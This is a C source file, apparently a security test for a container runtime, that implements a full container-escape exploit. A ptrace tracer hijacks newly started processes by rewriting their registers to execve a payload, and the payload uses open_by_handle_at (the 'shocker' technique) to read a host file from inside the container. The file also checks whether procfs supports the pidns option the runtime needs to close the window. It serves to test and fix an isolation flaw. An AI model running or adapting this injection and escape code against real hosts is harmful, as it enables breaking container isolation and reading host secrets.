// The capability window (issue 36, the third cold attack): a container
// without a user namespace that holds CAP_SYS_PTRACE traces every new
// process in its pid namespace and makes it execve this program again, as
// `capwindow pwn`. A process of the runtime's caught before it dropped its
// capabilities runs the payload with them: CAP_DAC_READ_SEARCH opens a
// host file by its handle (open_by_handle_at, the "shocker" escape), which
// no path from the container reaches.
//
//   capwindow handle PATH   on the host: PATH's file handle, as hex, to stdout
//   capwindow trace OUT     in the container: the tracer; "ready" to OUT
//   capwindow pidns NSPATH  on the host: exits 0 if procfs takes the pidns
//                           option (a procfs of another pid namespace,
//                           mounted from outside it), which hako's pods
//                           need to close the window
//   capwindow pwn           what a traced process is made to run: opens
//                           /handle's file and appends "escaped: ..." and
//                           its CapEff to /out/result, or why it could not
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/mount.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int handle(const char *path) {
    static unsigned char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *h = (struct file_handle *)buf;
    unsigned char *bytes = buf + sizeof *h;
    h->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) != 0) { perror("name_to_handle_at"); return 1; }
    printf("%d %u ", h->handle_type, h->handle_bytes);
    for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", bytes[i]);
    printf("\n");
    return 0;
}

static int pidns(const char *path) {
    int ns = open(path, O_RDONLY), ctx = syscall(SYS_fsopen, "proc", FSOPEN_CLOEXEC);
    return ns >= 0 && ctx >= 0 && syscall(SYS_fsconfig, ctx, FSCONFIG_SET_FD, "pidns", NULL, ns) == 0 ? 0 : 1;
}

static void report(const char *what) {
    char status[4096] = "", *cap;
    int f = open("/proc/self/status", O_RDONLY);
    ssize_t n = f >= 0 ? read(f, status, sizeof status - 1) : 0;
    status[n > 0 ? n : 0] = 0;
    if ((cap = strstr(status, "CapEff:"))) cap[strcspn(cap, "\n")] = 0; else cap = "CapEff: ?";
    int out = open("/out/result", O_WRONLY | O_APPEND);
    if (out >= 0) dprintf(out, "%s (%s)\n", what, cap);
}

static int pwn(void) {
    if (fork() != 0) _exit(0); // the runtime sees its process exit at once
    static unsigned char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *h = (struct file_handle *)buf;
    unsigned char *bytes = buf + sizeof *h;
    char hex[2 * MAX_HANDLE_SZ + 1] = "", line[256];
    FILE *in = fopen("/handle", "r");
    if (!in || fscanf(in, "%d %u %256s", &h->handle_type, &h->handle_bytes, hex) != 3 || h->handle_bytes > MAX_HANDLE_SZ) {
        report("pwn: no /handle");
        return 1;
    }
    for (unsigned i = 0; i < h->handle_bytes; i++) sscanf(hex + 2 * i, "%2hhx", &bytes[i]);
    int fd = open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY), h, O_RDONLY);
    if (fd < 0) {
        snprintf(line, sizeof line, "pwn: open_by_handle_at: %s", strerror(errno));
        report(line);
        return 1;
    }
    char secret[128] = "";
    ssize_t n = read(fd, secret, sizeof secret - 1);
    secret[n > 0 ? n : 0] = 0;
    secret[strcspn(secret, "\n")] = 0;
    snprintf(line, sizeof line, "escaped: read the host's file: %s", secret);
    report(line);
    return 0;
}

// Stops `pid` and points it at execve("/capwindow", ["/capwindow", "pwn"]).
static int inject(pid_t pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return -1;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0) { ptrace(PTRACE_DETACH, pid, 0, 0); return -1; }
    int st;
    if (waitpid(pid, &st, __WALL) != pid) return -1;
    struct user_regs_struct r;
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) { ptrace(PTRACE_DETACH, pid, 0, 0); return -1; }
    // Stopped in a system call, rip is just past its `syscall` (0f 05).
    long word = ptrace(PTRACE_PEEKTEXT, pid, r.rip - 2, 0);
    if ((word & 0xffff) != 0x050f) { ptrace(PTRACE_DETACH, pid, 0, 0); return -1; }
    unsigned long sp = (r.rsp - 4096) & ~15UL, path = sp, arg = sp + 16, argv = sp + 32;
    const char words[32] = "/capwindow\0\0\0\0\0\0pwn";
    for (int i = 0; i < 4; i++) ptrace(PTRACE_POKEDATA, pid, sp + 8 * i, *(long *)(words + 8 * i));
    ptrace(PTRACE_POKEDATA, pid, argv, path);
    ptrace(PTRACE_POKEDATA, pid, argv + 8, arg);
    ptrace(PTRACE_POKEDATA, pid, argv + 16, 0);
    struct user_regs_struct n = r;
    n.rip = r.rip - 2; n.rax = SYS_execve; n.orig_rax = -1; n.rdi = path; n.rsi = argv; n.rdx = 0; n.rsp = sp - 256;
    int ok = ptrace(PTRACE_SETREGS, pid, 0, &n) == 0;
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return ok ? 0 : -1;
}

static int trace(const char *out) {
    static char seen[1 << 22];
    DIR *d = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(d))) { int p = atoi(e->d_name); if (p > 0 && p < (1 << 22)) seen[p] = 1; }
    closedir(d);
    FILE *o = fopen(out, "a");
    fprintf(o, "ready\n");
    fclose(o);
    for (;;) {
        d = opendir("/proc");
        while ((e = readdir(d))) {
            int p = atoi(e->d_name);
            if (p <= 0 || p >= (1 << 22) || seen[p]) continue;
            seen[p] = 1;
            // Not the payload's own processes, or they would loop.
            char path[64], comm[32] = "";
            snprintf(path, sizeof path, "/proc/%d/comm", p);
            int c = open(path, O_RDONLY);
            if (c >= 0) { ssize_t n = read(c, comm, sizeof comm - 1); comm[n > 0 ? n : 0] = 0; close(c); }
            if (!strncmp(comm, "capwindow", 9)) continue;
            if (inject(p) == 0) { o = fopen(out, "a"); fprintf(o, "injected %d\n", p); fclose(o); }
        }
        closedir(d);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "handle")) return handle(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "trace")) return trace(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "pidns")) return pidns(argv[2]);
    if (argc == 2 && !strcmp(argv[1], "pwn")) return pwn();
    fprintf(stderr, "usage: capwindow handle PATH | trace OUT | pidns NSPATH | pwn\n");
    return 2;
}
